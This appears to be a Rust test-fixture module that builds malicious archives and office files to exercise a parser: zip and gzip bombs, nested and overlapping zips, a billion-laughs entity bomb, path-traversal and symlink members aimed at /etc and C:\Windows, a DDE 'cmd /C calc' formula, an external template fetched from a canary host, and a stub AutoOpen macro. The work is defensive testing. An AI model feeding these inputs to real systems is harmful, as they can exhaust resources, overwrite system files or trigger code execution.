//! Archives that unfold without end, and members that want to lie elsewhere.

use crate::Case;
use crate::packed::{Member, closed, crc, deflate, gzip, office, tar, zip, zlib_of_zeros};

const SHEETS: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const OFFICE: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

pub(crate) fn cases() -> Vec<Case> {
    [bombs(), names(), tars(), offices()].concat()
}

/// So many zeros, deflated, as a member that says how long it is.
fn zeros(name: &str, length: usize) -> Member {
    let packed = zlib_of_zeros(length);
    // Raw: without zlib's head and sum.
    let packed = packed[2..packed.len() - 4].to_vec();
    Member { packed, length: length as u32, method: 8, sum: 0, ..Member::stored(name, b"") }
}

fn bombs() -> Vec<Case> {
    let bomb = zip(&[zeros("zeros", 64 << 20)]);
    let nested = (0..8).fold(bomb.clone(), |inside, level| {
        let one = Member::deflated(&format!("{level}.zip"), &inside);
        zip(&vec![one; 4])
    });
    // Each name of the directory is of the same bytes (D. Fifield, "A better zip bomb", 2019).
    let kernel = zeros("kernel", 32 << 20);
    let local = kernel.local();
    let begin = local.len() as u32;
    let mut overlapping = local;
    for _ in 0..2000 {
        overlapping.extend(kernel.central(0));
    }
    let overlapping = closed(overlapping, begin, 2000);
    let giant = zip(&[Member { length: u32::MAX, sum: crc(b""), ..Member::stored("giant", b"x") }]);
    let many: Vec<Member> = (0..20_000).map(|n| Member::stored(&format!("word/{n}"), b"")).collect();
    let lying = Member { length: 1, ..zeros("word/lying.xml", 32 << 20) };
    let case = |name: &str, called: &str, bytes: Vec<u8>| Case::new(name, called, "application/zip", bytes);
    vec![
        case("a bomb", "bomb.zip", bomb),
        case("a bomb in archives in archives", "nested.zip", nested),
        case("members over one another", "overlapping.zip", overlapping),
        case("a member that says it is giant", "giant.zip", giant),
        case("a gzip of zeros", "zeros.gz", gzip(&vec![0; 16 << 20])),
        Case::new(
            "a bomb as a document of an office",
            "bomb.docx",
            OFFICE,
            office("word", &[zeros("word/document.xml", 128 << 20)]),
        ),
        Case::new("a member that says it is small", "lying.docx", OFFICE, office("word", &[lying])),
        Case::new("a bomb as a workbook", "bomb.xlsx", SHEETS, workbook()),
        Case::new("twenty thousand members", "many.docx", OFFICE, office("word", &many)),
    ]
}

/// A workbook whose one text is as long as the reader lets it be.
fn workbook() -> Vec<u8> {
    let main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let relations = "http://schemas.openxmlformats.org/package/2006/relationships";
    let related_as = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let related = |id: &str, kind: &str, target: &str| {
        format!("<Relationship Id='{id}' Type='{related_as}/{kind}' Target='{target}'/>")
    };
    let book = format!(
        "<workbook xmlns='{main}' xmlns:r='{related_as}'><sheets><sheet name='A' sheetId='1' r:id='a'/></sheets></workbook>"
    );
    let parts = format!(
        "<Relationships xmlns='{relations}'>{}{}</Relationships>",
        related("a", "worksheet", "worksheets/sheet1.xml"),
        related("b", "sharedStrings", "sharedStrings.xml")
    );
    let sheet = format!(
        "<worksheet xmlns='{main}'><sheetData><row r='1'><c r='A1' t='s'><v>0</v></c></row></sheetData></worksheet>"
    );
    let begin = related("c", "officeDocument", "xl/workbook.xml");
    let begin = format!("<Relationships xmlns='{relations}'>{begin}</Relationships>");
    office(
        "xl",
        &[
            Member::deflated("_rels/.rels", begin.as_bytes()),
            Member::deflated("xl/workbook.xml", book.as_bytes()),
            Member::deflated("xl/_rels/workbook.xml.rels", parts.as_bytes()),
            Member::deflated("xl/worksheets/sheet1.xml", sheet.as_bytes()),
            zeros("xl/sharedStrings.xml", 600 << 20),
        ],
    )
}

fn names() -> Vec<Case> {
    let inside = |name: &str| office("word", &[Member::stored(name, b"outside")]);
    let link = Member { mode: 0o120_777, ..Member::stored("word/link", b"/etc/passwd") };
    let locked = Member { flags: 1, ..Member::stored("word/locked.xml", b"locked") };
    let case = |name: &str, bytes: Vec<u8>| Case::new(name, "names.docx", OFFICE, bytes);
    vec![
        case("a member above its folder", inside("../../../../tmp/outside")),
        case("a member at the root", inside("/etc/cron.d/outside")),
        case("a member on another disk", inside("C:\\Windows\\outside.dll")),
        case("a member above by the other slash", inside("..\\..\\outside")),
        case("a member with a NUL in its name", inside("word/a.xml\0.exe")),
        case("a member that is a link", office("word", &[link])),
        case("a member that is locked", office("word", &[locked])),
        case(
            "two members of one name",
            office("word", &[Member::stored("word/a", b"1"), Member::stored("word/a", b"2")]),
        ),
    ]
}

fn tars() -> Vec<Case> {
    let case = |name: &str, bytes: Vec<u8>| Case::new(name, "files.tar", "application/x-tar", bytes);
    vec![
        case("a tar above its folder", tar(&[("../../../../tmp/outside", b'0', "", b"outside")])),
        case("a tar at the root", tar(&[("/etc/cron.d/outside", b'0', "", b"outside")])),
        case(
            "a tar with a link and a file behind it",
            tar(&[("a", b'2', "/tmp", b""), ("a/outside", b'0', "", b"outside")]),
        ),
        case("a tar with a hard link", tar(&[("a", b'1', "/etc/passwd", b"")])),
        case("a tar with a device", tar(&[("a", b'3', "", b""), ("b", b'6', "", b"")])),
    ]
}

fn offices() -> Vec<Case> {
    let laughs: String = (1..10)
        .map(|level| format!("<!ENTITY e{level} '{}'>", format!("&e{};", level - 1).repeat(10)))
        .collect();
    let laughs = format!("<!DOCTYPE x [<!ENTITY e0 'ha'>{laughs}]><x>&e9;</x>");
    let template = "<Relationships><Relationship Id='a' Type='attachedTemplate' TargetMode='External' Target='https://canary.example/ran.dotm'/></Relationships>";
    let formula = "<worksheet><c><f>cmd|' /C calc'!A0</f></c></worksheet>";
    let cut = office("word", &[]);
    let case = |name: &str, called: &str, bytes: Vec<u8>| Case::new(name, called, OFFICE, bytes);
    vec![
        case(
            "a billion laughs in an office",
            "laughs.docx",
            office("word", &[Member::deflated("word/document.xml", laughs.as_bytes())]),
        ),
        case(
            "a template from elsewhere",
            "template.docx",
            office("word", &[Member::deflated("word/_rels/settings.xml.rels", template.as_bytes())]),
        ),
        case(
            "a macro",
            "macro.docm",
            office("word", &[Member::deflated("word/vbaProject.bin", b"\xd0\xcf\x11\xe0AutoOpen")]),
        ),
        case(
            "a formula that calls a program",
            "formula.xlsx",
            office("xl", &[Member::deflated("xl/worksheets/sheet1.xml", formula.as_bytes())]),
        ),
        case(
            "a show that opens a program",
            "show.pptx",
            office(
                "ppt",
                &[Member::deflated(
                    "ppt/slides/_rels/slide1.xml.rels",
                    b"<Relationship Target='file:///c:/calc.exe'/>",
                )],
            ),
        ),
        case("an office without a directory", "cut.docx", cut[..cut.len() - 60].to_vec()),
        case(
            "an office with an unknown method",
            "method.docx",
            office("word", &[Member { method: 99, ..Member::stored("word/a", &deflate(b"a")) }]),
        ),
    ]
}
